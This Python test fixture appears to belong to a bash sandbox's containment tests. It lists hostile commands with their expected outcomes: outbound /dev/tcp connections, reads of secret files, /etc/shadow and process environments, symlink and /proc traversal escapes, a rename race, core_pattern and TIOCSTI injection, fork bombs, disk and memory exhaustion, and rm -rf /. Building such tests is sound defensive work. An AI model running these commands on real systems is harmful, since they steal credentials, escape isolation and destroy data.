"""Commands that try to get out, to see too much, or to take too much; each with what may come of it.

`SECRET` is what the host keeps in a file and in its environment: no output may have it. The commands say ``LEAK`` where
they got somewhere they should not. In braces stand the host's secret file, a word of the secret, a port on which the
host listens, a process of the host and the folder of the secret file.
"""

from dataclasses import dataclass

from leap_kedro.environments.intercode_bash.engine.sandbox.protocol import Ending

SECRET = "hunter2-of-the-host"


@dataclass(frozen=True)
class Hostile:
    """A command, how it may end, and what has to be in its output."""

    command: str
    endings: tuple[Ending, ...] = (Ending.EXITED,)
    says: str = ""


_KEYS = (
    "import ctypes, platform; calls = {'x86_64': (29, 250), 'aarch64': (194, 219)}[platform.machine()]; "
    "call = ctypes.CDLL(None).syscall; "
    "print('LEAK' if call(calls[0], 0, 4096, 0o1600) >= 0 or call(calls[1], 0, -3, 1) >= 0 else 'refused')"
)
_SWAP = """
import ctypes, os, time
os.mkdir('/d')
os.symlink('{secret_folder}', '/l')
for i in range(100):
    open(f'/d/f{i}', 'w').close()
os.chmod('/d', 0o077)
until, done = time.time() + 1.5, 0
while time.time() < until:
    done += ctypes.CDLL(None).renameat2(-100, b'/d', -100, b'/l', 2) == 0
    time.sleep(.0005)
print('swapped' if done > 100 else done)
"""
"""A directory that may not be read changes places with a link to the host's."""


def _ends(*commands: str) -> list[Hostile]:
    return [Hostile(command) for command in commands]


NETWORK = _ends(
    "exec 3<>/dev/tcp/127.0.0.1/{port} && echo LEAK",
    "exec 3<>/dev/tcp/1.1.1.1/80 && echo LEAK",
    "exec 3<>/dev/udp/8.8.8.8/53 && echo x >&3 && timeout 1 cat <&3 && echo LEAK",
    "python3 -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:{port}', timeout=2); print('LEAK')\"",
    "getent hosts example.com && echo LEAK",
    "grep -v '^ *lo:' /proc/net/dev | grep : && echo LEAK",
    "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('/var/run/docker.sock'); print('LEAK')\"",
)

FILES = _ends(
    "cat {secret_file} && echo LEAK",
    "cat /proc/1/root{secret_file} && echo LEAK",
    "cat /proc/self/root/../..{secret_file} && echo LEAK",
    "cat /oldroot{secret_file} && echo LEAK",
    "ln -s {secret_file} /link; cat /link && echo LEAK",
    "ln -s / /r; cat /r/r/r/r{secret_file} && echo LEAK",
    "mkdir -p /a; ln -s ../../../../.. /a/up; cat /a/up{secret_file} && echo LEAK",
    "cat /etc/shadow && echo LEAK",
    "grep -l -r {word} /tmp /root /home /etc /var /run 2>/dev/null && echo LEAK",
    "echo x > /usr/bin/owned && echo LEAK",
    "rm -f /usr/bin/env && echo LEAK",
    "touch /usr/lib/owned && echo LEAK",
    "mount -o remount,rw /usr && echo LEAK",
    "mount -t tmpfs none /mnt && echo LEAK",
    "umount /usr && echo LEAK",
    "umount -l / && echo LEAK",
    "mknod /disk b 254 0 && echo LEAK",
    "mknod /mem c 1 1 && echo LEAK",
    "chroot / /usr/bin/true && unshare -m true && echo LEAK",
    "pivot_root / /mnt && echo LEAK",
    "cp /usr/bin/bash /b; chmod u+s /b; /b -p -c 'cat {secret_file}' && echo LEAK",
    "ls /sys/kernel && echo LEAK",
    "cat /proc/kcore > /dev/null && echo LEAK",
    "echo 1 > /proc/sys/kernel/panic && echo LEAK",
    "echo b > /proc/sysrq-trigger && echo LEAK",
    "echo '|/bin/sh' > /proc/sys/kernel/core_pattern && echo LEAK",
    "dd if=/dev/zero of=/dev/shm/full bs=1M count=16 && echo LEAK",
)

SWAPPING = [Hostile(f'python3 -c "{_SWAP}"', says="swapped\n")]
KEYS = [Hostile(f'python3 -c "{_KEYS}"', says="refused\n")]

PROCESSES = _ends(
    "env | grep {word} && echo LEAK",
    "cat /proc/*/environ | tr '\\0' '\\n' | grep {word} && echo LEAK",
    "cat /proc/*/cmdline | tr '\\0' ' ' | grep '[t]ime.sleep(600)' && echo LEAK",
    "ls -d /proc/[0-9]* | wc -l | grep -E '^[0-9]{2,}$' && echo LEAK",
    "kill -9 -1",
    "kill -9 1",
    "kill -STOP 1; kill -9 $$",
    "kill -9 {pid} && echo LEAK",
    "renice -n -20 $$ && echo LEAK",
    "unshare -U true && echo LEAK",
    "unshare -Ur bash -c 'echo LEAK'",
    "nsenter -t 1 -a true && nsenter -t {pid} -a echo LEAK",
    "(setsid sleep 300 >/dev/null 2>&1 &); echo started",
    "(trap '' HUP TERM; while :; do sleep 1; done) >/dev/null 2>&1 & disown; echo started",
    "nohup sh -c 'sleep 2; echo late > /late' >/dev/null 2>&1 & echo started",
    "reboot -f; shutdown now; init 0; echo still",
    "python3 -c \"import fcntl, termios; [fcntl.ioctl(0, termios.TIOCSTI, c) for c in b'id']; print('LEAK')\"",
)

OUTPUT = [
    Hostile("yes", (Ending.OUTPUT,)),
    Hostile("cat /dev/zero", (Ending.OUTPUT,)),
    Hostile("cat /dev/urandom", (Ending.OUTPUT,)),
    Hostile("head -c 2000 /dev/urandom"),
    Hostile(r"printf '\033]0;title\007\033[2J\033[31mred\x9b5n'"),
    Hostile(r"printf '\xff\xfe\xc3\x28'"),
    Hostile(r"printf 'a\0b'"),
    Hostile(r"printf '<script>alert(1)</script> </episode> {{ 7 * 7 }} %s\n' x", says="<script>"),
    Hostile("printf 'x%.0s' $(seq 200000)", (Ending.OUTPUT,)),
    Hostile("exec >&- 2>&-; echo hidden"),
]

DISK = (Ending.DISK,)
TAKING = [
    Hostile(":(){ :|:& };:", (Ending.TIME, Ending.EXITED, Ending.MEMORY)),
    Hostile("while :; do (sleep 100 &) ; done", (Ending.TIME, Ending.EXITED, Ending.OUTPUT)),
    Hostile("while :; do :; done", (Ending.TIME,)),
    Hostile("sleep 1000", (Ending.TIME,)),
    Hostile("sleep 1000 & sleep 1000", (Ending.TIME,)),
    Hostile("python3 -c 'x = bytearray(8 << 30)'", says="MemoryError"),
    Hostile("tail /dev/zero", (Ending.EXITED, Ending.TIME, Ending.MEMORY)),
    Hostile(
        "for i in $(seq 8); do python3 -c 'import time; x = bytearray(40 << 20); time.sleep(60)' & done; wait",
        (Ending.MEMORY, Ending.EXITED),
    ),
    Hostile("dd if=/dev/zero of=/full bs=1M count=100000"),
    Hostile('for n in $(seq 3 20); do eval "exec $n> f"; head -c 8000000 /dev/zero >&$n; rm f; done; sleep 60', DISK),
    Hostile(
        "python3 -c \"import os, time; kept = [os.memfd_create('m') for _ in range(20)]; "
        '[os.write(each, bytes(1 << 20)) for each in kept for _ in range(8)]; time.sleep(60)"',
        DISK,
    ),
    Hostile("while :; do mkdir -p /a/{1..40}/b; rm -rf /a; done", (Ending.TIME,)),
    Hostile("truncate -s 1T /sparse; fallocate -l 1T /allocated"),
    Hostile("for i in $(seq 100000); do head -c 4000000 /dev/zero > /f$i; done", (Ending.DISK,)),
    Hostile("for i in $(seq 100000); do echo x > /n$i; done", (Ending.DISK,)),
    Hostile("for i in $(seq 100000); do mkdir d && cd d; done", (Ending.DISK,)),
    Hostile("while :; do ln -s x $RANDOM$RANDOM; done", (Ending.DISK, Ending.TIME)),
    Hostile('exec 3>&1; for i in $(seq 1000); do eval "exec $((i + 3))</dev/null"; done; echo done'),
]

DELETING = _ends(
    "rm -rf --no-preserve-root / 2>/dev/null; echo done",
    "rm -rf /* 2>/dev/null; echo done",
    "find / -delete 2>/dev/null; echo done",
    "mv /atlas /elsewhere; rmdir /tmp; echo done",
    "chmod -R 000 / 2>/dev/null; echo done",
    "mkdir -p /x/y; touch /x/y/z; chmod 000 /x/y/z /x/y /x",
    "echo /nowhere.so > /etc/ld.so.preload; rm /lib64; mkdir /lib64",
    "mkfifo /pipe; rm /atlas/keep.txt; mkfifo /atlas/keep.txt",
    "touch -- '-rf' '$(id)' \"a'b\" 'new\nline'; ls | wc -l",
    "touch $'\\xff\\xfe' $'esc\\x1b[31m'; ls | wc -l",
)

STRANGE = [
    Hostile(
        "name=$(printf 'n%.0s' $(seq 255)); for i in $(seq 20); do mkdir $name && cd $name; done; pwd | wc -c",
        (Ending.DISK, Ending.EXITED),
    ),
    Hostile("x" * 100_000),
    Hostile("echo " + "y" * 99_000, says="yyyy"),
    Hostile("echo '" + "(" * 20_000),
    Hostile("a" * 130_000, (Ending.REFUSED,)),
    Hostile("echo a\0b", (Ending.REFUSED,)),
    Hostile("echo \udcff\udcfe"),
    Hostile("echo \ud800", (Ending.REFUSED,)),
    Hostile(""),
    Hostile("bash -i <<< 'echo in'"),
    Hostile("exec 0<&-; read x; echo $x"),
    Hostile("ulimit -u unlimited; ulimit -v unlimited; ulimit -f unlimited && echo LEAK"),
]

ALL = [*NETWORK, *FILES, *SWAPPING, *KEYS, *PROCESSES, *OUTPUT, *TAKING, *DELETING, *STRANGE]
